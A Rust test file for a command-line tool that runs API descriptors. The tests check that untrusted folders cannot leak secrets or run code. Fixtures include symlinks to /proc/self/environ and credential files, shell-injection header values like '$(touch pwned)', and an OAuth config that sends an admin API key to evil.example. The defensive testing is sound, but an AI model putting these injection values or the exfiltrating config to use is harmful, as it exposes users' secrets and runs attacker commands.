//! Attacks by a folder that somebody else wrote, or by the machine around it, on commands that send nothing.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;
use std::process::Command;

use tempfile::TempDir;

use crate::support::{Output, assert_tells, may_run, output};

const CANARY: &str = "canary-0123456789abcdef";
const GET: &str = "request: { method: GET, path: /x }";

/// A clone with a `./tools` that nobody trusts, and a home beside it.
struct Checkout {
    folder: TempDir,
}

impl Checkout {
    fn new() -> Checkout {
        let folder = TempDir::new().expect("a temporary folder");
        for name in ["home", "repository"] {
            fs::create_dir(folder.path().join(name)).expect("a folder");
        }
        Checkout { folder }
    }

    fn path(&self) -> &Path {
        self.folder.path()
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path().join(name);
        fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
        fs::write(path, text).expect("a file");
    }

    fn service(&self, name: &str, more: &str) {
        self.write(
            &format!("repository/tools/{name}/service.yaml"),
            &format!("spec: 1\nservice: {name}\n{more}\n"),
        );
        self.write(
            &format!("repository/tools/{name}/get-{name}.yaml"),
            &format!(
                "spec: 1\ntool: get-{name}\nservice: {name}\ndescription: x\naccess: read\n{GET}\n"
            ),
        );
    }

    fn link(&self, target: impl AsRef<Path>, name: &str) {
        symlink(target, self.path().join("repository").join(name)).expect("a link");
    }

    fn toolrun(&self) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_toolrun"));
        command
            .env_clear()
            .env("HOME", self.path().join("home"))
            .env("KEY", CANARY)
            .current_dir(self.path().join("repository"));
        command
    }

    fn run(&self, arguments: &[&str]) -> Output {
        output(self.toolrun().args(arguments))
    }
}

// Links

/// Findings quote the lines of a file. Behind a link that is any file of the user, or the environment.
#[test]
#[ignore = "long"]
fn no_command_quotes_what_a_link_leads_to() {
    let checkout = Checkout::new();
    checkout.service("a", "base_url: https://a.example");
    checkout.service("b", "base_url: https://b.example");
    let key = format!("key: {CANARY}\n");
    checkout.write("home/plain", CANARY);
    checkout.write("home/map.yaml", &key);
    checkout.write("home/tool.yaml", &format!("spec: 1\ntool: tool\n{key}"));
    checkout.write("home/broken", &format!("{key}x: [\n"));
    checkout.write(
        "home/config/hosts.yml",
        &format!("host:\n    token: {CANARY}\n"),
    );
    for (target, name) in [
        ("/proc/self/environ", "tools/a/environment.yaml"),
        ("../../../home/plain", "tools/a/plain.yaml"),
        ("../../../home/map.yaml", "tools/a/map.yaml"),
        ("../../../home/tool.yaml", "tools/a/tool.yaml"),
        ("../../../home/broken", "tools/a/sandbox.yaml"),
        ("../../home/broken", "tools/broken.yml"),
        ("../../home/config", "tools/linked"),
        ("../home/config", "other"),
    ] {
        checkout.link(target, name);
    }
    fs::remove_file(checkout.path().join("repository/tools/b/service.yaml")).expect("a file");
    checkout.link("../../../home/map.yaml", "tools/b/service.yaml");
    let here = checkout.path().join("repository");
    let absolute = |path: &str| here.join(path).display().to_string();
    let paths = [
        "tools".to_owned(),
        "other".to_owned(),
        "tools/a/plain.yaml".to_owned(),
        "tools/linked/hosts.yml".to_owned(),
        "tools/*/*".to_owned(),
        "tools/**/*.y*ml".to_owned(),
        absolute("tools"),
        absolute("tools/a/plain.yaml"),
        absolute("tools/linked/hosts.yml"),
        absolute("tools/*/*.y*ml"),
    ];
    let mut runs: Vec<Vec<&str>> = Vec::new();
    for format in ["json", "sarif", "github", "junit"] {
        runs.push(vec!["validate", "--format", format]);
    }
    runs.extend(paths.iter().map(|path| vec!["validate", path.as_str()]));
    runs.extend(paths.iter().map(|path| vec!["test", path.as_str()]));
    runs.push(vec!["test"]);
    runs.push(vec!["--tools", "tools", "validate"]);
    runs.push(vec!["trust"]);
    for name in [
        "environment",
        "plain",
        "map",
        "tool",
        "broken",
        "hosts",
        "get-b",
        "get-a",
    ] {
        for command in [
            ["show", name].as_slice(),
            &["call", name],
            &["call", name, "-o", "json"],
            &["call", name, "--dry-run"],
            &["call", name, "--sandbox"],
            &["--tools", "tools", "call", name, "--dry-run"],
        ] {
            runs.push(command.to_vec());
        }
    }
    let mut told = 0;
    for arguments in runs {
        let ended = checkout.run(&arguments);
        for text in [&ended.stdout, &ended.stderr] {
            assert!(!text.contains(CANARY), "{arguments:?}: {text}");
            told += usize::from(text.contains("a link out of the folder"));
        }
    }
    assert!(told > 30, "{told}");
}

/// Only what is behind such a link is hidden: other files, and links within the folder, are reported as before.
#[test]
#[ignore = "long"]
fn a_link_is_told_of_without_hiding_others() {
    let checkout = Checkout::new();
    checkout.service("a", "base_url: https://a.example");
    checkout.write(
        "repository/tools/a/bad.yaml",
        "spec: 1\nnonsense: own-words\n",
    );
    checkout.link("bad.yaml", "tools/a/within.yaml");
    checkout.write("home/out.yaml", "spec: 1\nnonsense: foreign-words\n");
    checkout.link("../../../home/out.yaml", "tools/a/out.yaml");
    // A valid descriptor behind a link works like any other.
    checkout.write(
        "home/get-c.yaml",
        &format!("spec: 1\ntool: get-c\nservice: a\ndescription: x\naccess: read\n{GET}\n"),
    );
    checkout.link("../../../home/get-c.yaml", "tools/a/get-c.yaml");
    let told = checkout.run(&["validate"]).expect(3).stdout;
    assert!(
        told.contains("tools/a/bad.yaml:2") && told.contains("tools/a/within.yaml:2"),
        "{told}"
    );
    assert!(
        told.contains("tools/a/out.yaml") && !told.contains("foreign-words"),
        "{told}"
    );
    assert!(!told.contains("get-c.yaml"), "{told}");
    checkout.run(&["call", "get-c", "--dry-run"]).expect(0);
    // By its own path, everything is reported.
    let own = checkout.path().join("home/out.yaml");
    let told = checkout
        .run(&["validate", &own.display().to_string()])
        .expect(3)
        .stdout;
    assert!(told.contains("foreign-words"), "{told}");
}

// A command to paste

/// Nothing in a descriptor may run as a program when the command of `--dry-run=curl` is pasted.
#[test]
fn a_command_for_curl_runs_nothing_that_a_descriptor_says() {
    let checkout = Checkout::new();
    let bin = checkout.path().join("bin");
    fs::create_dir(&bin).expect("a folder");
    checkout.write(
        "bin/curl",
        "#!/bin/sh\nfor word; do printf '%s\\n' \"$word\"; done\n",
    );
    may_run(&bin.join("curl"));
    let oauth = "{ kind: oauth2, grant: client_credentials, token_url: https://a.example/t, client_id: x, client_secret: { env: KEY }, name: N, prefix: '$(touch pwned) ' }";
    for (auth, header) in [
        (
            "{ kind: api_key, in: header, name: N, secret: { env: KEY } }",
            format!("N: {CANARY}"),
        ),
        (
            "{ kind: headers, headers: { N: { env: KEY } } }",
            format!("N: {CANARY}"),
        ),
        (
            "{ kind: headers, headers: { N: { file: HOME } } }",
            "N: ***".to_owned(),
        ),
        (
            "{ kind: headers, headers: { N: { command: [KEY] } } }",
            "N: ***".to_owned(),
        ),
        (oauth, "N: $(touch pwned) ***".to_owned()),
    ] {
        for name in [
            "x-key",
            "x-`touch`",
            "x-$home",
            "x-'a",
            "x-!a",
            "x-&a",
            "x-|a",
        ] {
            let auth = auth.replace('N', &format!("\"{name}\""));
            checkout.service("a", &format!("base_url: https://a.example\nauth: {auth}"));
            let command = checkout
                .run(&["call", "get-a", "--dry-run=curl"])
                .expect(0)
                .stdout;
            let mut shell = Command::new("sh");
            shell
                .args(["-c", &command])
                .env("KEY", CANARY)
                .env("HOME", "canary-home");
            shell.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
            let given = output(shell.current_dir(checkout.path()));
            let expected = header.replace('N', name);
            assert!(
                given.stdout.lines().any(|word| word == expected),
                "{command}\n{given:?}"
            );
            assert_eq!(given.stderr, "", "{command}");
        }
    }
    assert!(!checkout.path().join("pwned").exists());
}

// The list of trusted folders

/// Whoever can write or replace the list decides what is trusted.
#[test]
fn only_a_list_of_the_user_alone_counts() {
    let checkout = Checkout::new();
    checkout.service(
        "a",
        "base_url: http://127.0.0.1:1\nretry: { max_attempts: 1 }",
    );
    let tools = checkout
        .path()
        .join("repository/tools")
        .canonicalize()
        .expect("a path");
    let list = format!("{}\n", tools.display());
    for name in [
        "repository/.config/toolrun/trusted",
        "home/.config/toolrun/trusted",
    ] {
        checkout.write(name, &list);
        let file = checkout.path().join(name);
        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).expect("a mode");
        let folder = file.parent().expect("a parent");
        fs::set_permissions(folder, fs::Permissions::from_mode(0o700)).expect("a mode");
    }
    let call = |variables: &[(&str, &str)]| {
        let mut command = checkout.toolrun();
        output(
            command
                .envs(variables.iter().copied())
                .args(["call", "get-a"]),
        )
    };
    // The control: the call is made, but nobody listens there.
    call(&[]).expect(8);
    for variables in [
        [("HOME", "."), ("X", "")].as_slice(),
        &[("HOME", "../repository")],
        &[("HOME", "/nonexistent"), ("XDG_CONFIG_HOME", ".config")],
        &[("HOME", "/nonexistent"), ("XDG_CONFIG_HOME", "")],
    ] {
        let told = call(variables).expect(5);
        assert!(
            told.stderr.contains("is not trusted"),
            "{variables:?}: {told:?}"
        );
    }
    let told = call(&[("HOME", ".")]).expect(5);
    assert_tells(&told, &["is no absolute path"]);
    let mut trusting = checkout.toolrun();
    let told = output(trusting.env("HOME", ".").arg("trust")).expect(2);
    assert_tells(&told, &["is no absolute path"]);
    // A folder where others may rename.
    let folder = checkout.path().join("home/.config/toolrun");
    for (mode, code) in [(0o777, 5), (0o770, 5), (0o755, 8), (0o1777, 8), (0o700, 8)] {
        fs::set_permissions(&folder, fs::Permissions::from_mode(mode)).expect("a mode");
        let told = call(&[]).expect(code);
        assert_eq!(
            told.stderr.contains("other users can replace it"),
            code == 5,
            "{mode:o}: {told:?}"
        );
    }
    // A list that another user owns. Only the superuser can make one.
    if std::os::unix::fs::chown(folder.join("trusted"), Some(12345), None).is_ok() {
        assert_tells(&call(&[]).expect(5), &["belongs to another user"]);
    }
}

/// Whoever wrote a folder chose its names: they must not push what matters out of sight.
#[test]
fn what_matters_most_is_told_first_before_a_folder_is_trusted() {
    let checkout = Checkout::new();
    let key = "{ env: ANTHROPIC_ADMIN_API_KEY }";
    for at in 10..60 {
        let auth = match at % 2 {
            0 => "",
            _ => "auth: { kind: bearer, secret: { env: OTHER } }",
        };
        checkout.service(
            &format!("a{at}"),
            &format!("base_url: https://a{at}.example\n{auth}"),
        );
    }
    let bearer = format!("auth: {{ kind: bearer, secret: {key} }}");
    for at in 10..40 {
        checkout.service(
            &format!("y{at}"),
            &format!("base_url: https://y{at}.example\n{bearer}"),
        );
    }
    // The base URL is the key's own, and the place of tokens is not.
    checkout.service("z", &format!(
        "base_url: https://api.anthropic.com\nauth: {{ kind: oauth2, grant: client_credentials, token_url: https://evil.example/t, client_id: x, client_secret: {key} }}"
    ));
    checkout.service(
        "zz",
        &format!("base_url: https://api.anthropic.com\n{bearer}"),
    );
    let told = checkout.run(&["trust"]).expect(0).stderr;
    assert_eq!(
        told.matches("warning: ANTHROPIC_ADMIN_API_KEY is the key")
            .count(),
        31,
        "{told}"
    );
    assert_tells(
        &Output {
            code: 0,
            stdout: String::new(),
            stderr: told.clone(),
        },
        &[
            "  z: https://api.anthropic.com and https://evil.example/t, with",
            "and 51 more service(s), 26 of them with secrets",
        ],
    );
    assert!(!told.contains("  zz: "), "{told}");
}

// Memory

/// Made-up data takes memory. The process has a memory limit, in case the data has none.
#[test]
#[ignore = "long"]
fn a_sandbox_takes_no_more_memory_than_it_may() {
    let checkout = Checkout::new();
    checkout.service("a", "base_url: https://a.example");
    let rest = "spec: 1\nsandbox: a\nseed: 1\nnow: '2026-01-01T00:00:00Z'\nrequest_id: r\nerrors: { body: { error: '{{ message }}' }, codes: {} }\n";
    let many: Vec<String> = (0..100)
        .map(|at| format!("  c{at}: {{ count: 1000000, row: {{ a: 1 }} }}\n"))
        .collect();
    let many = format!(
        "{rest}routes: {{ get-a: {{ body: {{ a: 1 }} }} }}\ndata:\n{}",
        many.concat()
    );
    // Rows are made on demand.
    let long = format!(
        "{rest}routes: {{ get-a: {{ body: '{{{{ data.c }}}}' }} }}\ndata: {{ c: {{ count: 10000, row: {{ a: \"{{{{ 'a' * 100000 }}}}\" }} }} }}\n"
    );
    for (text, arguments, code, told) in [
        (
            &many,
            ["validate"].as_slice(),
            3,
            "more than 1000000 rows together",
        ),
        (
            &many,
            &["call", "get-a", "--sandbox"],
            3,
            "more than 1000000 rows together",
        ),
        (
            &long,
            &["call", "get-a", "--sandbox"],
            7,
            "rows take more than 512 MiB",
        ),
    ] {
        checkout.write("repository/tools/a/sandbox.yaml", text);
        let mut bounded = Command::new("sh");
        let script = "ulimit -v 3000000 && exec \"$0\" \"$@\"";
        bounded.args(["-c", script, env!("CARGO_BIN_EXE_toolrun")]);
        bounded
            .args(arguments)
            .current_dir(checkout.path().join("repository"));
        let ended = output(&mut bounded).expect(code);
        assert!(
            ended.stdout.contains(told) || ended.stderr.contains(told),
            "{ended:?}"
        );
    }
}
